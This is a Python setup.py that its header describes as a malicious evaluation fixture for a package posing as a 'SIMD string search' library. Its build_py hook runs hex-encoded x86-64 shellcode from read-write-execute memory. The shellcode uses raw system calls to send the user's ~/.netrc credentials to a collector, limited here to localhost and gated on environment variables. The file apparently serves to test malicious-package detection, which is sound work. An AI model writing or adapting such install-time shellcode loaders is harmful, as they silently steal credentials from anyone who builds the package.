# Evaluation fixture (malicious): a shellcode loader.  An overridden
# build_py maps anonymous read-write-execute memory, copies machine code
# into it and calls it through ctypes; the code makes its own socket,
# connect and write system calls (no libc) to send ~/.netrc to a
# hard-coded collector.  Clear source: tests/corpus/sources/rwx-shellcode.s.
# Acts only inside the evaluation: 127.0.0.1 at SP_SINK_PORT; x86-64 only.
import ctypes
import mmap
import os
import platform
import socket
import struct

from setuptools import setup
from setuptools.command.build_py import build_py

CODE = bytes.fromhex(
    "534154415541564989fc4989f54989d6b829000000bf02000000be0100000031d20f054885c078364889c3b8"
    "2a0000004889df4c89e6ba100000000f054885c07510b8010000004889df4c89ee4c89f20f05b80300000048"
    "89df0f0531c0415e415d415c5bc3")


def _run(port, data):
    mem = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    mem.write(CODE)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(mem))
    fn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t)(addr)
    sa = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton("127.0.0.1"))
    fn(sa, data, len(data))
    del fn
    mem.close()


class BuildPy(build_py):
    def run(self):
        port = int(os.environ.get("SP_SINK_PORT", "0"))
        if port and os.environ.get("SP_TOKEN") and platform.machine() == "x86_64":
            try:
                with open(os.path.expanduser("~/.netrc"), "rb") as f:
                    _run(port, f.read())
            except OSError:
                pass
        super().run()


setup(
    name="rwx-shellcode",
    version="0.3.3",
    description="SIMD string search",
    py_modules=["simdsearch"],
    cmdclass={"build_py": BuildPy},
)
